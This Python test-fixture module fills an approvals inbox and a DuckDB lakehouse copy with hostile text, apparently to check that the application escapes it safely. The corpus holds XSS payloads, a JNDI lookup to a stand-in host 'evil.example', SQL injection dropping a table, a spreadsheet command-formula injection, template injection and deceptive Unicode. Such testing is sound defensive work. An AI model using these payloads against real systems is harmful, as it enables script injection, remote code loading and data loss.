"""Foreign text that tries to be more than text, and a laptop whose every foreign field holds it."""

from __future__ import annotations

import datetime as dt
import shutil
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb

from approvals.deciding.verbs import ask, override
from approvals.deciding.voting import accept, reject
from approvals.store.store import Store, open_store
from approvals.values.proposal import Content
from tests.components import inbox_store as builder

SITE = "evil.example"
CORPUS = (
    f"![x](http://{SITE}/p.png)", f"[click](http://{SITE}/) <http://{SITE}/a> http://{SITE}/b www.{SITE} me@{SITE}",
    f"<img src=http://{SITE}/i.png onerror=alert(1)><script>alert(2)</script><iframe src=//{SITE}></iframe>",
    f"<svg/onload=alert(3)><a href='javascript:alert(4)'>x</a><style>@import 'http://{SITE}/c.css'</style>",
    "[x](javascript:alert(5)) [y](data:text/html,<script>alert(6)</script>) [z](vbscript:msgbox)",
    f"**bold** # head\n> quote\n---\n| a | b |\n|---|---|\n```\ncode\n``` [^1]: n [r]: http://{SITE}/r",
    ":red[approved] :red-badge[x] :material/check: :streamlit: :smile: :orange-background[y]",
    "$\\href{http://evil.example/t}{x}$ $$\\url{http://evil.example/u}$$ \\(\\alpha\\)",
    "a\u202egnp.exe\u202c b\u2066c\u2069 d\u200be\u200cf\u200dg\u2060h\ufeffi\u00adj\u180ek\U000e0041l",
    "x\x00y\x1b[31mz\x07\x9b \ue000 \u0301\u0301 e\u0301 \ufdfa ０／１",
    "'; DROP TABLE proposals; -- \" OR \"\"=\" ` %27 ${jndi:ldap://evil.example/a} {{7*7}} =cmd|' /C calc'!A0",
)  # fmt: skip
EVERYTHING = " ".join(CORPUS)
LONG = (EVERYTHING + " ") * (1_000_000 // len(EVERYTHING) + 1)

# Columns that people fill with what they like; ids stay, or nothing would be found.
FREE = frozenset({
    "name", "job_name", "cluster_name", "warehouse_name", "pipeline_name", "endpoint_name", "agent_name", "workspace_name",
    "owned_by", "created_by", "creator_name", "creator_user_name", "comment", "description", "statement_text", "error_message",
    "tag_value", "run_name", "title", "run_as_user_name", "executed_by", "termination_type_detail", "principal_name",
})  # fmt: skip


def spoiled_lakehouse(clean: Path, folder: Path) -> Path:
    """A copy of the lakehouse in which every free-text column and every tag value holds the corpus."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "lakehouse.duckdb"
    shutil.copy(clean, target)
    with duckdb.connect(str(target)) as connection:
        columns = connection.execute(
            "SELECT table_schema, table_name, column_name, data_type FROM information_schema.columns"
        ).fetchall()
        for schema, table, column, kind in columns:
            place, own = f'"{schema}"."{table}"', f'"{column}"'
            if kind == "VARCHAR" and column in FREE:
                connection.execute(
                    f"UPDATE {place} SET {own} = left({own}, 12) || ' ' || ? WHERE {own} IS NOT NULL", [EVERYTHING]
                )
            elif kind == "MAP(VARCHAR, VARCHAR)" and "tags" in column:
                connection.execute(
                    f"UPDATE {place} SET {own} = map_from_entries(list_transform(map_entries({own}), "
                    f"lambda e: {{'key': e.key, 'value': ?}})) WHERE {own} IS NOT NULL",
                    [EVERYTHING],
                )
        connection.execute(
            "UPDATE lakeflow.jobs SET name = ? WHERE job_id = (SELECT max(job_id) FROM lakeflow.jobs)", [LONG]
        )
    return target


def poisoned(value: Any, text: str) -> Any:
    """``value`` with ``text`` in place of every string in it."""
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {key: poisoned(one, text) for key, one in value.items()}
    if isinstance(value, list | tuple):
        return [poisoned(one, text) for one in value]
    return value


def hostile_content(name: str, text: str, **changes: Any) -> Content:
    """A proposal in which everything that somebody else could have written is ``text``; what must be one of a few words
    stays."""
    plain = builder.content(name, now=dt.datetime.now(dt.UTC), **changes)
    written = plain.model_dump()
    written["target"] |= {"name": text}
    written["agent"] |= {"id": text, "version": text}
    written |= {
        "title": f"Set auto-stop of warehouse `{text}` to 10 min",
        "owner": text,
        "narrative": text[:4_000],
        "steps": [text],
        "rules": [text],
        "before": {"auto_stop_mins": text, "_state": text},
        "ooda": poisoned(written["ooda"], text),
    }
    for one in written["changes"]:
        one |= {"path": text, "before": text, "after": {text: [text]}, "unit": text}
    for one in written["preconditions"]:
        one |= {"id": text, "expected": text, "observed": text}
    for one in written["evidence"]:
        one |= {"title": text, "columns": [text, "hours"], "rows": [[text, text]], "match": {text: text}}
        one["scalars"] = [{"column": text, "observed": text, "unit": text}]
    for one in written["impact"]["consumers"]:
        one |= {"name": text, "type": text, "owner": text, "why": text}
    written["impact"]["skipped"] = [text]
    written["benefit"] |= {"method": text, "low": Decimal(1), "high": Decimal(2)}
    for one in written["risk_factors"]:
        one |= {"factor": text, "value": text}
    for one in written["requirement"]["seats"]:
        one |= {"id": text, "why": text, "groups": [*one["groups"], text]}
    written["verify"]["checks"] = [text]
    written["dry_run"]["warnings"] = [text]
    return Content.model_validate(written)


def spoiled_store(home: Path) -> dict[str, str]:
    """A store with hostile proposals in every view of the inbox; their ids by view."""
    store = open_store(f"sqlite:///{home / 'store.sqlite'}")
    made = {
        f"open{number}": builder.put(store, hostile_content(f"open{number}", text))
        for number, text in enumerate((*CORPUS, EVERYTHING, LONG))
    }
    with store.writing() as tx:
        ask(tx, made["open0"], builder.BOB, EVERYTHING)
    made["rejected"] = builder.put(store, hostile_content("rejected", EVERYTHING))
    signed = builder.ballot(store, made["rejected"], reason="bad_timing", comment=EVERYTHING)
    with store.writing() as tx:
        reject(tx, signed, builder.BOB)
    made["scheduled"] = _approved(store, hostile_content("scheduled", EVERYTHING))
    bad = {"id": EVERYTHING, "expected": EVERYTHING, "observed": EVERYTHING, "ok": False}
    made["unknown"] = builder.moved(
        store,
        _approved(store, hostile_content("unknown", EVERYTHING)),
        "start",
        "pass",
        "unknown",
        "give_up",
        effect_unknown=True,
        error_class="ReadTimeout",
        error_text=EVERYTHING,
        checks=[bad],
        holds=[EVERYTHING],
    )
    made["overridden"] = builder.put(store, hostile_content("overridden", EVERYTHING))
    other = hostile_content("overridden", EVERYTHING, params={"auto_stop_minutes": 25})
    with store.writing() as tx:
        override(tx, made["overridden"], other, builder.human(other), builder.BOB, "other", EVERYTHING)
    store.engine.dispose()
    return made


def _approved(store: Store, of: Content) -> str:
    made = builder.put(store, of)
    signed = builder.ballot(store, made, comment=EVERYTHING)
    with store.writing() as tx:
        accept(tx, signed, builder.ANN)
    return made
